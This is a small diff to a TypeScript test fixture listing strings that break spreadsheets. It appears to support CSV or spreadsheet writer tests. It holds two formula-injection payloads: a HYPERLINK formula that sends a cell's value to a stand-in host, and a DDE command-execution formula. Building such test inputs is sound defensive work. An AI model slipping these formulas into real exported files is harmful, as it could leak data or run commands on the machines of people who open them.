@@ -1,4 +1,4 @@
-/** Texts known to break spreadsheets, for the writers' tests. */
+/** Texts known to break spreadsheets, for tests. */
 export const HOSTILE: readonly string[] = [
   '=HYPERLINK("http://exemplo.invalid/?x="&A1;"clique")',
   "=cmd|' /C calc'!A0",
